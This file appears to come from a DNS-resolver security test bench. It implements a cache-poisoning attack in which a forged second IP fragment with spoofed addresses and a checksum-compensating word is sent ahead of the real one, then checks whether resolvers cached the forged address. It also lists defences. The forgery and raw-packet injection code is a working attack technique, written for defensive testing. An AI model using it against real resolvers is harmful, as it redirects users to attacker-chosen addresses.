"""Decides the attack with a planted fragment: the second half of a reply, which bears neither port nor ID nor question.

A reply that travels in fragments is put together by the resolver's kernel. Whoever sends a second fragment ahead of
the true one, with the right IP ID, has it joined to the true first one; the UDP checksum is made to fit with a few
bytes that do not matter. The bench's servers send in fragments (a real attacker makes them, with forged ICMP), and the
attacker knows the IP ID, which off-path has to be guessed.
"""

from __future__ import annotations

import struct
import time

from stage import ip, wire
from stage.attack import Attack, Result, Scene
from stage.ground import Ground
from stage.targets import Berthd, Kresd, Unbound
from stage.zones import FORGED, Asked, Servers

ADDRESSES = 50  # of the name: the reply has about 850 bytes, less than anybody's EDNS buffer
CUT = 528  # bytes of the UDP datagram in the first fragment: a path with an MTU of 552
AHEAD_S = 0.01
NAME = "www.pieces-%d."
FAMILIES = (4, 6)


def truth(asked: Asked) -> bytes:
    records = [(b"\xc0\x0c", wire.A, 300, wire.address("198.19.8.%d" % n)) for n in range(ADDRESSES)]
    return wire.response(asked.q, records) if asked.q.qtype == wire.A else asked.truth()


def planted(datagram: bytes) -> bytes:
    """The second part of the datagram with forged addresses and the same sum of 16-bit words."""
    forged = wire.address(FORGED)
    true_end, end = datagram[CUT:], bytearray(datagram[CUT:])
    marks = [at for at in range(len(end) - 4) if end[at:at + 3] == wire.address("198.19.8.0")[:3]]
    for at in marks[:-1]:
        end[at:at + 4] = forged
    last = marks[-1] + marks[-1] % 2  # a word of the last address makes up for the rest
    end[last:last + 2] = b"\0\0"
    missing = (ip.ones_sum(true_end) - ip.ones_sum(bytes(end))) % 0xFFFF
    end[last:last + 2] = struct.pack("!H", missing)
    return bytes(end)


class Pieces:
    """Sends a reply in two fragments, and before them the attacker's."""

    def __init__(self, servers: Servers):
        self.servers, self.ident = servers, 0x4242
        self.sent = 0

    def open(self, ground: Ground) -> None:
        self.attacker, self.server = ip.RawSender(ground.A), ip.RawSender(ground.S)
        ground.on_close(self.close)

    def close(self) -> None:
        self.attacker.close()
        self.server.close()

    def speak(self, asked: Asked) -> None:
        if asked.tcp or not asked.q.text.startswith("www") or asked.q.qtype != wire.A:
            asked.send(truth(asked) if asked.q.text.startswith("www") else asked.truth())
            return
        source, target = asked.server, asked.peer[0]
        datagram = ip.udp(source, target, (53, asked.peer[1]), truth(asked))
        self.ident += 1
        self.sent += 1

        def fragment(data: bytes, offset: int, more: bool) -> bytes:
            return ip.packet(source, target, ip.UDP, data, self.ident, offset, more)

        self.attacker.send(fragment(planted(datagram), CUT, False))
        self.servers.later(AHEAD_S, lambda: self.server.send(fragment(datagram[:CUT], 0, True)))
        self.servers.later(2 * AHEAD_S, lambda: self.server.send(fragment(datagram[CUT:], CUT, False)))


def prepare(servers: Servers) -> None:
    servers.pieces = Pieces(servers)
    servers.pieces.open(servers.ground)
    for family in FAMILIES:
        servers.add("pieces-%d." % family, speech=servers.pieces.speak, families=(family,))


def run(scene: Scene) -> Result:
    poisoned, answered = [], 0
    for family in FAMILIES:
        reply = scene.target.ask(NAME % family)
        time.sleep(0.1)
        again = scene.target.ask(NAME % family)  # from the cache
        found = [wire.addresses(r) for r in (reply, again) if r is not None]
        answered += any(found)
        if any(FORGED in addresses for addresses in found):
            poisoned.append("IPv%d" % family)
    text = "%s poisoned, %d of %d names answered, %d replies sent in fragments" % (
        " and ".join(poisoned) or "nothing", answered, len(FAMILIES), scene.servers.pieces.sent)
    numbers = {"poisoned": poisoned, "fragmented": scene.target.counters().get("upstream.fragmented")}
    return Result(bool(poisoned), text, numbers)


ATTACK = Attack(
    name="fragments",
    title="a planted second fragment of a reply",
    reference="Herzberg and Shulman 2013 (Fragmentation Considered Poisonous); RFC 9715",
    defence="what came in fragments (IP_RECVFRAGSIZE) is not trusted: asked over TCP; EDNS buffer of 1232",
    weakness="datagrams put together from fragments are believed",
    prepare=prepare,
    run=run,
    shipped=Berthd,
    weakened=lambda: Berthd("fragments"),
    peers=[Unbound, Kresd],
    ipv6=True,
)
